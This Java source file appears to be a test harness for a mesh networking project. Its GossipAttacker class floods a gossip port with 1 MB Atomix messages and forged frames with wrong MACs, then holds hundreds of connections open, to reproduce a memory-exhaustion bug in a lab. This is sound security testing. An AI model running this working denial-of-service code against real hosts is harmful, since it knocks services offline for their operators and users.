package io.vxmesh.testing;

import io.atomix.cluster.messaging.MessagingConfig;
import io.atomix.cluster.messaging.impl.NettyMessagingService;
import io.atomix.utils.net.Address;
import java.io.IOException;
import java.io.OutputStream;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.nio.ByteBuffer;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.CompletableFuture;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import java.util.concurrent.ThreadLocalRandom;
import java.util.concurrent.TimeUnit;

/**
 * A keyless attacker on a gossip port (issue 12, attack 1), as a library for in-JVM tests and as
 * a program the lab's end-to-end test runs in an attacker namespace:
 * {@code java -cp ... io.vxmesh.testing.GossipAttacker TARGET_IP PORT}. Three phases:
 * <ol>
 *   <li>{@code atomix}: 64 messages of 1 MB to each of four message types in Atomix 3.1.12's own
 *       protocol (NettyMessagingService, keep-alive): issue 12's reproduction (64 such messages
 *       on one connection killed a 64 MB agent while gossip ran on Atomix's transport), made
 *       four times stronger so it does not depend on how fast a loaded box lets it send;
 *   <li>{@code frames}: 64 vxmesh-shaped frames of 1 MB (length, magic, version, a fresh
 *       timestamp: everything but the MAC right), reconnecting whenever the target hangs up;
 *   <li>{@code connections}: 16 connections at once writing 8 such frames each, and 200
 *       connections held open and silent.
 * </ol>
 * Prints one line per phase ({@code attack phase=... }) and never throws for what the target does.
 */
public final class GossipAttacker {
  public static final int MB = 1 << 20;

  private GossipAttacker() {}

  /**
   * {@code length (4) | 'V' | 1 | now ms (8) | 32 random "MAC" bytes | zeros}, {@code size} bytes
   * after the length: vxmesh's TCP frame with every cheap check passing and a wrong MAC.
   */
  public static byte[] forgedFrame(int size) {
    ByteBuffer b = ByteBuffer.allocate(4 + size);
    b.putInt(size).put((byte) 'V').put((byte) 1).putLong(System.currentTimeMillis());
    byte[] mac = new byte[32];
    ThreadLocalRandom.current().nextBytes(mac);
    b.put(mac);
    return b.array();
  }

  private static Socket connect(InetAddress source, InetSocketAddress target) throws IOException {
    Socket s = new Socket();
    if (source != null) {
      s.bind(new InetSocketAddress(source, 0));
    }
    s.connect(target, 2000);
    return s;
  }

  /** Writes {@code frames} copies of {@code frame}, reconnecting on hang-ups; returns how many were fully written. */
  public static int flood(InetAddress source, InetSocketAddress target, int frames, byte[] frame) {
    int written = 0;
    Socket s = null;
    for (int i = 0; i < frames; i++) {
      try {
        if (s == null) {
          s = connect(source, target);
        }
        OutputStream out = s.getOutputStream();
        out.write(frame);
        out.flush();
        written++;
      } catch (IOException e) {
        closeQuietly(s);
        s = null;
      }
    }
    closeQuietly(s);
    return written;
  }

  /** {@code parallel} floods of {@code frames} frames each at once; returns frames fully written. */
  public static int floodMany(InetAddress source, InetSocketAddress target, int parallel, int frames, byte[] frame) {
    ExecutorService pool = Executors.newFixedThreadPool(parallel);
    try {
      List<Future<Integer>> fs = new ArrayList<>();
      for (int i = 0; i < parallel; i++) {
        fs.add(pool.submit(() -> flood(source, target, frames, frame)));
      }
      int written = 0;
      for (Future<Integer> f : fs) {
        written += f.get();
      }
      return written;
    } catch (Exception e) {
      throw new IllegalStateException(e);
    } finally {
      pool.shutdownNow();
    }
  }

  /** Opens up to {@code n} connections that send nothing; the caller closes them. */
  public static List<Socket> holdSilent(InetAddress source, InetSocketAddress target, int n) {
    List<Socket> held = new ArrayList<>();
    for (int i = 0; i < n; i++) {
      try {
        held.add(connect(source, target));
      } catch (IOException refused) {
        // the target may refuse: fine
      }
    }
    return held;
  }

  /** The request types an agent handled on Atomix's transport: each message to one of them was queued whole. */
  private static final List<String> HANDLED_TYPES = List.of("atomix-membership-sync", "atomix-membership-probe",
      "atomix-membership-probe-request", "vxmesh-whois");

  /**
   * Atomix's own protocol: {@code messages} one-way messages of {@code size} bytes to each of the
   * types an agent handled, all fired at once (Atomix pools a connection per type, so they arrive
   * over up to four connections); returns how many were sent.
   */
  public static int atomixFlood(InetAddress local, InetSocketAddress target, int messages, int size) throws Exception {
    int port;
    try (ServerSocket free = new ServerSocket(0, 1, local)) {
      port = free.getLocalPort();
    }
    NettyMessagingService raw = new NettyMessagingService("vxmesh", new Address(local.getHostAddress(), port, local),
        new MessagingConfig().setInterfaces(List.of(local.getHostAddress())).setPort(port));
    raw.start().get(10, TimeUnit.SECONDS);
    try {
      Address to = new Address(target.getAddress().getHostAddress(), target.getPort(), target.getAddress());
      byte[] payload = new byte[size];
      List<CompletableFuture<Void>> sends = new ArrayList<>();
      for (int i = 0; i < messages; i++) {
        for (String type : HANDLED_TYPES) {
          sends.add(raw.sendAsync(to, type, payload, true));
        }
      }
      try {
        CompletableFuture.allOf(sends.toArray(CompletableFuture[]::new)).get(15, TimeUnit.SECONDS);
      } catch (Exception e) {
        // refused, reset or never answered the handshake: counted below
      }
      return (int) sends.stream().filter(f -> f.isDone() && !f.isCompletedExceptionally()).count();
    } finally {
      try {
        raw.stop().get(10, TimeUnit.SECONDS);
      } catch (Exception e) {
        // the attacker does not care how its client winds down
      }
    }
  }

  static void closeQuietly(Socket s) {
    try {
      if (s != null) {
        s.close();
      }
    } catch (IOException e) {
      // done with it
    }
  }

  /** {@code TARGET_IP PORT LOCAL_IP}: runs the three phases against the target. */
  public static void main(String[] args) throws Exception {
    InetSocketAddress target = new InetSocketAddress(InetAddress.getByName(args[0]), Integer.parseInt(args[1]));
    InetAddress local = InetAddress.getByName(args[2]);
    byte[] frame = forgedFrame(MB);
    long t0 = System.nanoTime();
    int atomix = atomixFlood(local, target, 64, MB);
    System.out.printf("attack phase=atomix messages=%d size=%d sent=%d ms=%d%n", 64 * HANDLED_TYPES.size(), MB, atomix, ms(t0));
    t0 = System.nanoTime();
    int one = flood(local, target, 64, frame);
    System.out.printf("attack phase=frames frames=64 size=%d written=%d ms=%d%n", MB, one, ms(t0));
    t0 = System.nanoTime();
    List<Socket> silent = holdSilent(local, target, 200);
    int many = floodMany(local, target, 16, 8, forgedFrame(MB));
    System.out.printf("attack phase=connections frames=128 size=%d written=%d silent_held=%d ms=%d%n", MB, many, silent.size(), ms(t0));
    silent.forEach(GossipAttacker::closeQuietly);
    System.out.flush();
  }

  private static long ms(long t0) {
    return TimeUnit.NANOSECONDS.toMillis(System.nanoTime() - t0);
  }
}
